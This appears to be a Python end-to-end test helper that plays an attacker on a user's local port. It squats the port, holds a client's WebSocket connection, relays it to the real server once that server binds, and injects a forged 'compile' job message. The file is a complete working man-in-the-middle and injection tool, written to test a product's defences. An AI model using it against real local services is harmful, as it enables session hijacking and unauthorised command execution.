"""An attacker on the user's own port: it keeps one connection, gives the port up, and passes
everything on.

``python -I tests/e2e/same_port_relay.py PORT PATH [FROM]``. It takes the port, closes connections
for other paths, keeps the first one for PATH, and closes its listener. Once a server has taken the
port, it connects to it, from the address FROM if that is given, with the victim's own port number,
and passes all bytes on in both directions. Standard library only, and as another user if it is
started by root.

It prints one line for each step: ``listening``, ``holding``, ``relaying`` (or ``no way: REASON``), ``attached`` or
``refused`` as the owner of the port answers, the plugin's answer to a ``compile`` that it injects, and ``ended``.
"""

from __future__ import annotations

import json
import os
import socket
import sys
import threading
import time
from typing import List, Set

NOBODY = 65534
INJECTED = "injected-by-the-relay"


def say(word: str) -> None:
    sys.stdout.write(word + "\n")
    sys.stdout.flush()


def main(port: int, path: str, address: str) -> None:
    if hasattr(os, "geteuid") and os.geteuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    victim, head = hold(port, path)
    say("holding")
    server = connected(port, address, victim.getpeername()[1])
    if server is None:
        return
    say("relaying")
    server.sendall(head)
    lock = threading.Lock()  # so that the injected message goes between two others
    back = threading.Thread(target=pass_on, args=(server, victim, lock, path), name="back")
    back.start()
    pass_on(victim, server, lock, path)
    back.join()
    say("ended")


def hold(port: int, path: str) -> tuple[socket.socket, bytes]:
    listening = socket.socket()
    listening.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listening.bind(("127.0.0.1", port))
    listening.listen()
    say("listening")
    while True:
        victim, _ = listening.accept()
        head = b""
        while b"\r\n\r\n" not in head:
            data = victim.recv(2**16)
            if not data:
                break
            head += data
        if head.startswith(b"GET %s HTTP" % path.encode()):
            listening.close()
            return victim, head
        victim.close()


def connected(port: int, address: str, victims_port: int) -> socket.socket | None:
    """A connection to whatever takes the port next."""
    while True:
        server = socket.socket()
        if address:
            server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            try:
                server.bind((address, victims_port))
            except OSError as error:
                say(f"no way: {error.strerror}")
                return None
        try:
            server.connect(("127.0.0.1", port))
            return server
        except OSError:
            server.close()
            time.sleep(0.01)  # nothing reports when the port is taken


def pass_on(source: socket.socket, target: socket.socket, lock: threading.Lock, path: str) -> None:
    is_servers = threading.current_thread().name == "back"
    heard = b""
    said: Set[str] = set()
    try:
        while True:
            data = source.recv(2**16)
            if not data:
                break
            with lock:
                target.sendall(data)
                heard += data if is_servers else b""
                for word in ("attached", "refused", "capability"):
                    if f'"{word}"'.encode() in heard and word not in said:
                        said.add(word)
                        if word == "capability":
                            inject(target)
                        elif path == "/attach":
                            say(word)
            if not is_servers:
                heard += data
                for text in texts(heard):
                    if INJECTED in text and text not in said:
                        said.add(text)
                        say(text)
    except OSError:
        pass
    for end in (source, target):
        try:
            end.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass


def inject(plugin: socket.socket) -> None:
    text = json.dumps(
        {
            "type": "submit_job",
            "protocol_version": 1,
            "request_id": INJECTED,
            "job_id": "relayed-1",
            "tool_name": "compile",
            "params": {},
            "timeout_ms": 5000,
        }
    ).encode()
    plugin.sendall(bytes((0x81, 126)) + len(text).to_bytes(2, "big") + text)


def texts(data: bytes) -> List[str]:
    """The whole masked text messages in ``data``, which begins with a request head or a frame."""
    if data.startswith(b"GET "):
        data = data.partition(b"\r\n\r\n")[2]
    found, at = [], 0
    while len(data) >= at + 2:
        length, start = data[at + 1] & 0x7F, at + 2
        if length == 126:
            length, start = int.from_bytes(data[start : start + 2], "big"), start + 2
        elif length == 127:
            length, start = int.from_bytes(data[start : start + 8], "big"), start + 8
        end = start + 4 + length
        if len(data) < end:
            break
        mask, body = data[start : start + 4], data[start + 4 : end]
        found.append(
            bytes(byte ^ mask[i % 4] for i, byte in enumerate(body)).decode("utf-8", "replace")
        )
        at = end
    return found


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], sys.argv[3] if len(sys.argv) > 3 else "")
